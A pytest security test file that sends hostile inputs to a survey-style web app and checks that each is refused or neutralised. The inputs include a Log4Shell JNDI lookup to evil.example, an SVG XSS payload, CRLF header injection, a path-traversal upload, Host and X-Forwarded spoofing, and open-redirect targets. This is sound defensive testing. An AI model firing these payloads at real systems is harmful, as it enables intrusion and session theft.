"""What an attacker can send to the web application, and what comes back."""

from __future__ import annotations

import pytest

from tests.naughty import ONE_OF_EACH
from tests.web.city import ANSWERS, City, Resident, read

NAUGHTY = (
    "",
    " " * 5000,
    "\r\nSet-Cookie: stolen=1",
    "<svg onload=alert(1)>",
    "${jndi:ldap://evil.example/x}",
    *(one.text for one in ONE_OF_EACH),
)
FORM = "application/x-www-form-urlencoded"


@pytest.mark.parametrize("text", NAUGHTY, ids=lambda text: ascii(text)[:40])
@pytest.mark.parametrize(
    "field", ["_secret", "_page", "_return_to", "_do", "_code", "_ticket", "_receipt", "_key"]
)
def test_a_naughty_string_in_a_field_of_the_page_itself_fails_nothing(
    city: City, text: str, field: str
) -> None:
    data = {"_do": "continue", "_page": "idea", field: text}
    response = city.app.test_client().post(city.path(), data=data)
    assert response.status_code in (303, 400, 410, 413, 422, 429)
    assert "stolen" not in response.headers.get("Set-Cookie", "")
    assert "<svg onload" not in response.text
    assert "Traceback" not in response.text


@pytest.mark.parametrize(
    "text", [text for text in NAUGHTY if text], ids=lambda text: ascii(text)[:40]
)
def test_a_naughty_string_in_an_address_fails_nothing(city: City, text: str) -> None:
    client = city.app.test_client()
    for path in ("/s/{}", "/s/{}/en", f"/s/{city.slug}/{{}}", "/reports/{}/", "/reports/q3/{}"):
        response = client.get(path.format(text[:200].replace("/", "%2f").replace("\r\n", "%0d%0a")))
        assert response.status_code in (303, 308, 400, 404), path
        assert "Set-Cookie" not in response.headers
    response = client.get("/", query_string={"lang": text[:500]})
    assert response.status_code == 200
    assert "<svg onload" not in response.text


def test_a_thousand_and_one_parts_are_refused_in_words(resident: Resident) -> None:
    parts = "".join(
        f'--b\r\nContent-Disposition: form-data; name="f{n}"\r\n\r\nx\r\n' for n in range(1001)
    )
    response = resident.client.post(
        resident.city.path(),
        data=f"{parts}--b--\r\n",
        content_type="multipart/form-data; boundary=b",
    )
    assert response.status_code == 413
    read(response)


def test_a_thousand_and_one_fields_without_parts_fail_nothing(resident: Resident) -> None:
    resident.press("start")
    many = {f"f{n}": "x" for n in range(1001)}
    resident.post({**resident.page.hidden, **many, "_do": "continue"})
    assert resident.response.status_code in (200, 413)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"_do=continue&idea=\xff\xfe\x80", FORM),
        (b"_do=%ff%fe&_secret=%c3%28", FORM),
        (b"_do=continue&idea=%ed%a0%80", FORM),
        (b"_do=start;_do=submit", FORM),
        (b"&&&===&=&", FORM),
        (b'{"_do": "start"}', "application/json"),
        (b"<x/>", "text/xml"),
        (b"_do=start", "text/plain"),
        (b"_do=start", ""),
        (b"--b\r\nContent-Disposition: form-data; name=", "multipart/form-data; boundary=b"),
        (b"x", "multipart/form-data"),
        (b"_do=continue", f"{FORM}; charset=utf-7"),
        (b"_do=continue", f"{FORM}; charset=no-such"),
    ],
)
def test_a_body_that_no_browser_of_a_page_sends_starts_nothing(
    city: City, body: bytes, kind: str
) -> None:
    response = city.app.test_client().post(city.path(), data=body, content_type=kind)
    assert response.status_code in (400, 413, 422)
    read(response)
    assert city.responses() == []


def test_a_file_in_place_of_an_answer_is_no_answer(resident: Resident) -> None:
    resident.walk(ANSWERS)
    resident.press("change idea")
    body = "".join(
        f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in {**resident.page.hidden, "_do": "continue"}.items()
    )
    body += '--b\r\nContent-Disposition: form-data; name="idea"; filename="../x.sh"\r\n\r\nrm\r\n'
    response = resident.client.post(
        resident.city.path(),
        data=f"{body}--b--\r\n",
        content_type="multipart/form-data; boundary=b",
    )
    assert response.status_code in (200, 422)
    assert "rm" not in read(response).values.get("idea", "")


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND"])
@pytest.mark.parametrize("path", ["/", "/staff/", "/s/every-kind-2026q3/en", "/static/icon.svg"])
def test_other_methods_are_refused_and_echo_nothing(city: City, method: str, path: str) -> None:
    response = city.app.test_client().open(path, method=method, headers={"X-Canary": "canary"})
    assert response.status_code in (404, 405)
    assert "canary" not in response.text


@pytest.mark.parametrize("path", ["/", "/staff/", "/s/every-kind-2026q3/en", "/static/icon.svg"])
def test_head_says_what_get_says_without_a_body(city: City, path: str) -> None:
    client = city.app.test_client()
    asked, headed = client.get(path), client.head(path)
    assert headed.status_code == asked.status_code == 200
    assert headed.data == b""
    assert headed.content_type == asked.content_type
    asked.close()
    headed.close()


@pytest.mark.parametrize(
    "host",
    ["evil.example", "localhost.evil.example", "evil.example:80", "127.0.0.1.evil.example", "a@b"],
)
def test_a_host_that_is_not_ours_is_refused_and_never_repeated(city: City, host: str) -> None:
    for path in ("/", f"/s/{city.slug}", f"{city.path()}/poster", "/nowhere"):
        response = city.app.test_client().get(path, headers={"Host": host})
        assert response.status_code == 400, path
        assert "evil" not in response.text + str(response.headers)


@pytest.mark.parametrize(
    "header",
    [
        {"X-Forwarded-Host": "evil.example"},
        {"X-Forwarded-Server": "evil.example"},
        {"X-Forwarded-Proto": "evil"},
        {"X-Forwarded-Prefix": "//evil.example"},
        {"X-Forwarded-Port": "666"},
        {"X-Forwarded-For": "evil.example, 10.0.0.1"},
        {"X-Original-URL": "//evil.example/"},
        {"X-Rewrite-URL": "/staff/"},
        {"Forwarded": "host=evil.example;proto=evil"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"Referer": "https://evil.example/"},
        {"Origin": "https://evil.example"},
    ],
    ids=lambda header: next(iter(header)),
)
def test_what_a_stranger_says_in_a_header_changes_no_page(
    city: City, header: dict[str, str]
) -> None:
    client = city.app.test_client()
    for path in ("/", city.path(), f"/s/{city.slug}", f"{city.path()}/poster"):
        plain, spoofed = client.get(path), client.get(path, headers=header)
        assert spoofed.status_code == plain.status_code
        assert spoofed.location == plain.location
        assert "evil" not in spoofed.text + str(spoofed.headers)


@pytest.mark.parametrize(
    "target", ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)"]
)
def test_no_address_leads_away_but_the_one_way_out(city: City, target: str) -> None:
    client = city.app.test_client()
    query = dict.fromkeys(("next", "url", "return_to", "_return_to", "redirect", "lang"), target)
    for path in ("/", f"/s/{city.slug}", city.path(), f"/{target}", f"/s/{target}", "/staff"):
        response = client.get(path, query_string=query)
        place = response.location or "/"
        assert place.startswith(("/", "http://localhost/")), (path, place)
        assert not place.startswith(("//", "/\\")), (path, place)
    for do in ("continue", "leave", "back", "submit"):
        response = client.post(city.path(), data={**query, "_do": do})
        assert response.location in (None, "https://www.weather.gov/")


@pytest.mark.parametrize("page", ["-1", "0", "99999999999999999999", "-0", "1e9", "٣", "hood\0"])
def test_a_page_that_is_no_page_leads_to_where_the_person_is(resident: Resident, page: str) -> None:
    here = resident.press("start").hidden
    for do in ("continue", "back", "skip", f"change {page}"):
        resident.post({**here, "_page": page, "_do": do})
        assert resident.response.status_code in (200, 400, 422), do


def test_answers_to_questions_of_nobody_are_not_stored(resident: Resident) -> None:
    resident.walk({**ANSWERS, "contact": {"contact": "2"}})
    resident.press("change idea")
    forged: dict[str, str | list[str]] = {"when-month": "3", "other.wave": "1", "__class__": "x"}
    resident.post({**resident.page.hidden, **forged, "idea": "Listen.", "_do": "continue"})
    resident.press("submit")
    (response,) = resident.city.responses()
    assert set(response.answers) <= {*ANSWERS, "fair.listen", "fair.respect"}
    assert not isinstance(response.answers.get("when"), str)
